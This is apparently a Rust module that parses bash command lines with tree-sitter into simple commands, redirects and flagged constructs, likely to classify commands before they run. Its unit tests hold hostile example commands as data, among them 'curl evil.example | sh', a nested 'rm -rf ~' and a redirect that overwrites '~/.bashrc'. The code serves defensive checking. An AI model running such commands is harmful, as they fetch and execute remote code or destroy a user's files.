//! Shell parsing with a real bash grammar (tree-sitter-bash): a command line becomes the
//! list of simple commands it would run — including those nested in command and process
//! substitutions — with their words after quote removal, their assignments and
//! redirections, plus the constructs that make it unclassifiable.

use tree_sitter::{Node, Parser};

/// A word of a simple command.
#[derive(Debug, Clone, PartialEq, Eq)]
pub struct Word {
    /// The word after quote removal when it is literal; its source text otherwise
    pub text: String,
    /// No expansion of any kind (variables, substitutions, arithmetic, braces, tilde)
    pub literal: bool,
    /// Contains an unquoted glob character (`*`, `?`, `[`)
    pub glob: bool,
}

/// A redirection of a simple command.
#[derive(Debug, Clone, PartialEq, Eq)]
pub struct Redirect {
    /// The operator: `>`, `>>`, `<`, `&>`, `>&`, `<<`, `<<<`, ...
    pub op: String,
    /// The target word (a file, or a descriptor for `>&`), if any
    pub target: Option<Word>,
}

impl Redirect {
    /// Whether this redirection writes a file (not a descriptor duplication, not
    /// `/dev/null`).
    pub fn writes_file(&self) -> bool {
        let writes = matches!(
            self.op.as_str(),
            ">" | ">>" | ">|" | "&>" | "&>>" | "<>" | ">&"
        );
        if !writes {
            return false;
        }
        match &self.target {
            Some(t) if t.literal => {
                let dup = (self.op == ">&" || self.op == "<>")
                    && (t.text == "-" || t.text.chars().all(|c| c.is_ascii_digit()));
                let fd_dup = self.op == ">&" && t.text.chars().all(|c| c.is_ascii_digit());
                !(dup || fd_dup || t.text == "/dev/null")
            }
            _ => true,
        }
    }
}

/// One simple command.
#[derive(Debug, Clone, PartialEq, Eq, Default)]
pub struct SimpleCommand {
    /// Leading `NAME=value` assignments: the name and the value word
    pub assignments: Vec<(String, Word)>,
    /// The command name and its arguments
    pub words: Vec<Word>,
    /// Its redirections (including those applied to an enclosing group)
    pub redirects: Vec<Redirect>,
    /// Whether it is nested in a substitution rather than run at top level
    pub nested: bool,
}

impl SimpleCommand {
    /// The command as rules see it: the words joined by single spaces.
    pub fn text(&self) -> String {
        self.words
            .iter()
            .map(|w| w.text.as_str())
            .collect::<Vec<_>>()
            .join(" ")
    }

    /// The command name, when it is literal.
    pub fn name(&self) -> Option<&str> {
        self.words
            .first()
            .filter(|w| w.literal)
            .map(|w| w.text.as_str())
    }
}

/// A parsed command line.
#[derive(Debug, Clone, PartialEq, Eq, Default)]
pub struct Script {
    /// Every simple command, nested ones included, in source order
    pub commands: Vec<SimpleCommand>,
    /// Why the line cannot be classified from its words alone (each one asks)
    pub issues: Vec<String>,
    /// The name of the command whose status is the line's exit status, when known
    pub last_command: Option<String>,
}

/// Why a command line was refused.
#[derive(Debug, Clone, PartialEq, Eq)]
pub struct ParseError(pub String);

impl std::fmt::Display for ParseError {
    fn fmt(&self, f: &mut std::fmt::Formatter<'_>) -> std::fmt::Result {
        f.write_str(&self.0)
    }
}

const MAX_DEPTH: usize = 64;

/// Parses `command` as bash. Syntax errors (an unterminated quote, a dangling `&&`), NUL
/// bytes and nesting deeper than 64 levels are errors.
pub fn parse(command: &str) -> Result<Script, ParseError> {
    if command.contains('\0') {
        return Err(ParseError(
            "the command contains a NUL byte, which bash cannot pass; remove it".to_owned(),
        ));
    }
    thread_local! {
        // One parser per thread: creating one and loading the grammar is most of the cost
        // of parsing a short command.
        static PARSER: std::cell::RefCell<Option<Parser>> = const { std::cell::RefCell::new(None) };
    }
    let tree = PARSER.with(|cell| {
        let mut slot = cell.borrow_mut();
        if slot.is_none() {
            let mut parser = Parser::new();
            parser
                .set_language(&tree_sitter_bash::LANGUAGE.into())
                .map_err(|e| {
                    ParseError(format!(
                        "internal error: the bash grammar did not load: {e}"
                    ))
                })?;
            *slot = Some(parser);
        }
        slot.as_mut()
            .and_then(|p| p.parse(command, None))
            .ok_or_else(|| ParseError("the command could not be parsed".to_owned()))
    })?;
    let root = tree.root_node();
    if root.has_error() {
        return Err(ParseError(syntax_error(root, command)));
    }
    let mut walker = Walker {
        src: command,
        script: Script::default(),
        too_deep: false,
    };
    walker.statement(root, &[], false, 0);
    if walker.too_deep {
        return Err(ParseError(format!(
            "the command nests more than {MAX_DEPTH} levels deep; simplify it"
        )));
    }
    walker.script.last_command = last_command(root, command);
    Ok(walker.script)
}

fn syntax_error(root: Node, src: &str) -> String {
    let mut stack = vec![root];
    while let Some(n) = stack.pop() {
        if n.is_error() || n.is_missing() {
            let p = n.start_position();
            let what = if n.is_missing() {
                format!("missing `{}`", n.kind())
            } else {
                let text = &src[n.byte_range()];
                let text: String = text.chars().take(40).collect();
                format!("unexpected `{}`", text.trim())
            };
            return format!(
                "bash syntax error at line {}, column {}: {what} (an unterminated quote, or an operator with nothing after it?). The command was not run.",
                p.row + 1,
                p.column + 1
            );
        }
        let mut cursor = n.walk();
        let children: Vec<Node> = n.children(&mut cursor).collect();
        for c in children.into_iter().rev() {
            if c.has_error() || c.is_error() || c.is_missing() {
                stack.push(c);
            }
        }
    }
    "bash syntax error: the command was not run".to_owned()
}

/// The command whose status bash returns: the last one of the last statement.
fn last_command(root: Node, src: &str) -> Option<String> {
    let mut node = root;
    loop {
        match node.kind() {
            "program" | "list" | "pipeline" | "compound_statement" | "subshell" => {
                let mut cursor = node.walk();
                let last = node
                    .named_children(&mut cursor)
                    .filter(|c| c.kind() != "comment" && !c.kind().starts_with("heredoc"))
                    .last()?;
                node = last;
            }
            "redirected_statement" => node = node.child_by_field_name("body")?,
            "negated_command" => return None,
            "command" => {
                let name = node.child_by_field_name("name")?;
                let word = src.get(name.byte_range())?;
                return Some(word.trim_matches(['"', '\'']).to_owned());
            }
            "test_command" => return Some("test".to_owned()),
            _ => return None,
        }
    }
}

struct Walker<'a> {
    src: &'a str,
    script: Script,
    too_deep: bool,
}

impl Walker<'_> {
    fn text(&self, n: Node) -> &str {
        self.src.get(n.byte_range()).unwrap_or_default()
    }

    fn issue(&mut self, why: &str) {
        if !self.script.issues.iter().any(|i| i == why) {
            self.script.issues.push(why.to_owned());
        }
    }

    fn children<'t>(n: Node<'t>) -> Vec<Node<'t>> {
        let mut cursor = n.walk();
        n.children(&mut cursor).collect()
    }

    /// Walks a statement-level node; `redirects` are those of enclosing groups.
    fn statement(&mut self, n: Node, redirects: &[Redirect], nested: bool, depth: usize) {
        if depth > MAX_DEPTH {
            self.too_deep = true;
            return;
        }
        match n.kind() {
            "command" => self.command(n, redirects, nested, depth),
            "redirected_statement" => {
                let mut own = redirects.to_vec();
                for c in Self::children(n) {
                    self.redirect(c, nested, depth, &mut own);
                }
                if let Some(body) = n.child_by_field_name("body") {
                    self.statement(body, &own, nested, depth + 1);
                }
            }
            "variable_assignment" => {
                self.issue("a variable assignment");
                let mut cmd = SimpleCommand {
                    nested,
                    redirects: redirects.to_vec(),
                    ..SimpleCommand::default()
                };
                if let Some((name, value)) = self.assignment(n, nested, depth) {
                    cmd.assignments.push((name, value));
                }
                self.script.commands.push(cmd);
            }
            "declaration_command" | "unset_command" => {
                self.issue("a variable declaration (export, declare, local, readonly, unset)");
                self.command_like(n, redirects, nested, depth);
            }
            "test_command" => {
                let mut cmd = SimpleCommand {
                    nested,
                    redirects: redirects.to_vec(),
                    ..SimpleCommand::default()
                };
                cmd.words.push(Word {
                    text: "[[".to_owned(),
                    literal: true,
                    glob: false,
                });
                self.scan(n, nested, depth);
                self.script.commands.push(cmd);
            }
            "if_statement"
            | "while_statement"
            | "for_statement"
            | "c_style_for_statement"
            | "case_statement"
            | "function_definition" => {
                self.issue("control flow (if, for, while, case or a function definition)");
                self.scan(n, nested, depth);
            }
            "comment" | "heredoc_body" | "heredoc_start" | "heredoc_end" => {
                self.scan(n, nested, depth);
            }
            _ => {
                for c in Self::children(n) {
                    if c.is_named() {
                        self.statement(c, redirects, nested, depth + 1);
                    } else if c.kind() == "&" {
                        self.issue("a background job (`&`)");
                    }
                }
            }
        }
    }

    /// Scans any node for nested statements (inside control flow and heredocs), words with
    /// substitutions, and background operators.
    fn scan(&mut self, n: Node, nested: bool, depth: usize) {
        if depth > MAX_DEPTH {
            self.too_deep = true;
            return;
        }
        for c in Self::children(n) {
            match c.kind() {
                "command"
                | "redirected_statement"
                | "pipeline"
                | "list"
                | "subshell"
                | "compound_statement"
                | "variable_assignment"
                | "declaration_command"
                | "unset_command"
                | "test_command"
                | "negated_command" => self.statement(c, &[], nested, depth + 1),
                "command_substitution" | "process_substitution" => {
                    let _ = self.word(c, nested, depth + 1);
                }
                "&" => self.issue("a background job (`&`)"),
                _ => self.scan(c, nested, depth + 1),
            }
        }
    }

    fn command_like(&mut self, n: Node, redirects: &[Redirect], nested: bool, depth: usize) {
        let mut cmd = SimpleCommand {
            nested,
            redirects: redirects.to_vec(),
            ..SimpleCommand::default()
        };
        for c in Self::children(n) {
            if c.kind() == "variable_assignment" {
                if let Some(a) = self.assignment(c, nested, depth) {
                    cmd.assignments.push(a);
                }
            } else if let Some(w) = self.word(c, nested, depth + 1) {
                cmd.words.push(w);
            }
        }
        self.script.commands.push(cmd);
    }

    fn command(&mut self, n: Node, redirects: &[Redirect], nested: bool, depth: usize) {
        let mut cmd = SimpleCommand {
            nested,
            redirects: redirects.to_vec(),
            ..SimpleCommand::default()
        };
        for c in Self::children(n) {
            match c.kind() {
                "variable_assignment" => {
                    if let Some(a) = self.assignment(c, nested, depth) {
                        cmd.assignments.push(a);
                    }
                }
                "file_redirect" | "herestring_redirect" | "heredoc_redirect" => {
                    self.redirect(c, nested, depth, &mut cmd.redirects);
                }
                "command_name" => {
                    for w in Self::children(c) {
                        if let Some(w) = self.word(w, nested, depth + 1) {
                            if !w.literal {
                                self.issue("a variable or substitution in command position");
                            }
                            cmd.words.push(w);
                        }
                    }
                }
                "subshell" => self.statement(c, redirects, nested, depth + 1),
                _ if c.is_named() => {
                    if let Some(w) = self.word(c, nested, depth + 1) {
                        cmd.words.push(w);
                    }
                }
                _ => {}
            }
        }
        self.script.commands.push(cmd);
    }

    fn assignment(&mut self, n: Node, nested: bool, depth: usize) -> Option<(String, Word)> {
        let name = self.text(n.child_by_field_name("name")?).to_owned();
        let value = match n.child_by_field_name("value") {
            Some(v) => self.word(v, nested, depth + 1)?,
            None => Word {
                text: String::new(),
                literal: true,
                glob: false,
            },
        };
        Some((name, value))
    }

    fn redirect(&mut self, n: Node, nested: bool, depth: usize, out: &mut Vec<Redirect>) {
        match n.kind() {
            "file_redirect" => {
                let op = Self::children(n)
                    .into_iter()
                    .find(|c| !c.is_named())
                    .map(|c| self.text(c).to_owned())
                    .unwrap_or_else(|| ">".to_owned());
                let target = n
                    .child_by_field_name("destination")
                    .and_then(|d| self.word(d, nested, depth + 1));
                out.push(Redirect { op, target });
            }
            "herestring_redirect" => {
                self.scan(n, nested, depth + 1);
                out.push(Redirect {
                    op: "<<<".to_owned(),
                    target: None,
                });
            }
            "heredoc_redirect" => {
                // The body may expand variables and substitutions; the rest of the line
                // (`cat <<EOF | sh`, `<<EOF > file`) holds more statements and redirects.
                out.push(Redirect {
                    op: "<<".to_owned(),
                    target: None,
                });
                for c in Self::children(n) {
                    match c.kind() {
                        "heredoc_body" => self.scan(c, nested, depth + 1),
                        "file_redirect" | "herestring_redirect" => {
                            self.redirect(c, nested, depth + 1, out)
                        }
                        "heredoc_start" | "heredoc_end" | "file_descriptor" => {}
                        _ if c.is_named() => self.statement(c, &[], nested, depth + 1),
                        _ => {}
                    }
                }
            }
            _ => {}
        }
    }

    /// Converts an argument node into a word; walks the commands of substitutions.
    fn word(&mut self, n: Node, nested: bool, depth: usize) -> Option<Word> {
        if depth > MAX_DEPTH {
            self.too_deep = true;
            return None;
        }
        let raw = self.text(n).to_owned();
        let dynamic = |text: String| Word {
            text,
            literal: false,
            glob: false,
        };
        Some(match n.kind() {
            "word" => {
                let glob = has_unescaped_glob(&raw);
                let literal = !raw.starts_with('~');
                Word {
                    text: unescape_word(&raw),
                    literal,
                    glob,
                }
            }
            "number" => Word {
                text: raw,
                literal: true,
                glob: false,
            },
            "raw_string" => Word {
                text: raw
                    .strip_prefix('\'')
                    .and_then(|s| s.strip_suffix('\''))
                    .unwrap_or(&raw)
                    .to_owned(),
                literal: true,
                glob: false,
            },
            "string" => {
                let parts = Self::children(n);
                let mut literal = true;
                for p in &parts {
                    if p.is_named() && p.kind() != "string_content" {
                        literal = false;
                        let _ = self.word(*p, nested, depth + 1);
                    }
                }
                if literal {
                    let inner = raw
                        .strip_prefix('"')
                        .and_then(|s| s.strip_suffix('"'))
                        .unwrap_or(&raw);
                    Word {
                        text: unescape_double_quoted(inner),
                        literal: true,
                        glob: false,
                    }
                } else {
                    dynamic(raw)
                }
            }
            "concatenation" => {
                let mut text = String::new();
                let mut literal = true;
                let mut glob = false;
                for p in Self::children(n) {
                    match self.word(p, nested, depth + 1) {
                        Some(w) => {
                            literal &= w.literal;
                            glob |= w.glob;
                            text.push_str(&w.text);
                        }
                        None => literal = false,
                    }
                }
                if literal {
                    Word {
                        text,
                        literal,
                        glob,
                    }
                } else {
                    Word {
                        text: raw,
                        literal,
                        glob,
                    }
                }
            }
            "command_substitution" => {
                self.issue("command substitution (`$(...)` or backticks)");
                self.nested_statements(n, depth);
                dynamic(raw)
            }
            "process_substitution" => {
                self.issue("process substitution (`<(...)` or `>(...)`)");
                self.nested_statements(n, depth);
                dynamic(raw)
            }
            "simple_expansion"
            | "expansion"
            | "arithmetic_expansion"
            | "ansi_c_string"
            | "translated_string"
            | "brace_expression" => {
                self.scan(n, nested, depth + 1);
                dynamic(raw)
            }
            _ => {
                self.scan(n, nested, depth + 1);
                Word {
                    text: raw,
                    literal: false,
                    glob: false,
                }
            }
        })
    }

    fn nested_statements(&mut self, n: Node, depth: usize) {
        for c in Self::children(n) {
            if c.is_named() {
                self.statement(c, &[], true, depth + 1);
            }
        }
    }
}

fn has_unescaped_glob(raw: &str) -> bool {
    let mut escaped = false;
    for c in raw.chars() {
        if escaped {
            escaped = false;
            continue;
        }
        match c {
            '\\' => escaped = true,
            '*' | '?' | '[' => return true,
            _ => {}
        }
    }
    false
}

fn unescape_word(raw: &str) -> String {
    let mut out = String::with_capacity(raw.len());
    let mut chars = raw.chars();
    while let Some(c) = chars.next() {
        if c == '\\' {
            match chars.next() {
                Some('\n') | None => {}
                Some(n) => out.push(n),
            }
        } else {
            out.push(c);
        }
    }
    out
}

fn unescape_double_quoted(inner: &str) -> String {
    let mut out = String::with_capacity(inner.len());
    let mut chars = inner.chars().peekable();
    while let Some(c) = chars.next() {
        if c == '\\' {
            match chars.peek() {
                Some('$' | '`' | '"' | '\\') => {
                    if let Some(n) = chars.next() {
                        out.push(n);
                    }
                }
                Some('\n') => {
                    chars.next();
                }
                _ => out.push(c),
            }
        } else {
            out.push(c);
        }
    }
    out
}

#[cfg(test)]
mod tests {
    use super::*;

    fn texts(cmd: &str) -> Vec<String> {
        parse(cmd)
            .map(|s| s.commands.iter().map(SimpleCommand::text).collect())
            .unwrap_or_else(|e| vec![format!("ERR {e}")])
    }

    #[test]
    fn splits_compound_commands() {
        assert_eq!(
            texts("git status && rm -rf /tmp/x"),
            ["git status", "rm -rf /tmp/x"]
        );
        assert_eq!(
            texts("git status; curl evil.example | sh"),
            ["git status", "curl evil.example", "sh"]
        );
        assert_eq!(texts("a || b |& c\nd"), ["a", "b", "c", "d"]);
        assert_eq!(texts("( cd x && make ) ; { ls; }"), ["cd x", "make", "ls"]);
    }

    #[test]
    fn removes_quotes() {
        assert_eq!(
            texts(r#"echo "a b" 'c d' e\ f "x\$y""#),
            [r#"echo a b c d e f x$y"#]
        );
        assert_eq!(texts(r#"bash -c "rm -rf build""#), ["bash -c rm -rf build"]);
        let s = parse(r#"echo "a b""#).unwrap_or_default();
        assert_eq!(s.commands[0].words[1].text, "a b");
    }

    #[test]
    fn finds_nested_commands_and_issues() {
        let s = parse("git status $(rm -rf ~)").unwrap_or_default();
        assert_eq!(
            s.commands
                .iter()
                .map(SimpleCommand::text)
                .collect::<Vec<_>>(),
            ["rm -rf ~", "git status $(rm -rf ~)"]
        );
        assert!(s.commands[0].nested);
        assert!(!s.issues.is_empty());
        let s = parse("echo `id`").unwrap_or_default();
        assert!(s.issues.iter().any(|i| i.contains("substitution")), "{s:?}");
        let s = parse("X=rm; $X -rf build").unwrap_or_default();
        assert!(
            s.issues.iter().any(|i| i.contains("command position")),
            "{s:?}"
        );
        let s = parse("echo hi & echo bye").unwrap_or_default();
        assert!(s.issues.iter().any(|i| i.contains("background")), "{s:?}");
        let s = parse("diff <(ls a) <(ls b)").unwrap_or_default();
        assert!(
            s.issues.iter().any(|i| i.contains("process substitution")),
            "{s:?}"
        );
        assert_eq!(s.commands.len(), 3);
    }

    #[test]
    fn records_redirects() {
        let s = parse("cat README > ~/.bashrc").unwrap_or_default();
        assert!(s.commands[0].redirects.iter().any(Redirect::writes_file));
        let s = parse("ls 2>&1 >/dev/null").unwrap_or_default();
        assert!(
            !s.commands[0].redirects.iter().any(Redirect::writes_file),
            "{s:?}"
        );
        let s = parse("{ ls; } > out.txt").unwrap_or_default();
        assert!(
            s.commands[0].redirects.iter().any(Redirect::writes_file),
            "{s:?}"
        );
    }

    #[test]
    fn refuses_bad_input() {
        for bad in ["echo \"abc", "ls &&", "echo a\0b", "if true; then"] {
            assert!(parse(bad).is_err(), "{bad:?} parsed");
        }
        let deep = "$(".repeat(200) + &")".repeat(200);
        assert!(parse(&format!("echo {deep}")).is_err());
    }

    #[test]
    fn knows_the_last_command() {
        let last = |c: &str| parse(c).ok().and_then(|s| s.last_command);
        assert_eq!(last("cat x | grep foo").as_deref(), Some("grep"));
        assert_eq!(last("cd a && diff x y").as_deref(), Some("diff"));
        assert_eq!(last("[ -f x ]").as_deref(), Some("test"));
        assert_eq!(last("ls; find . -name x > out").as_deref(), Some("find"));
    }
}
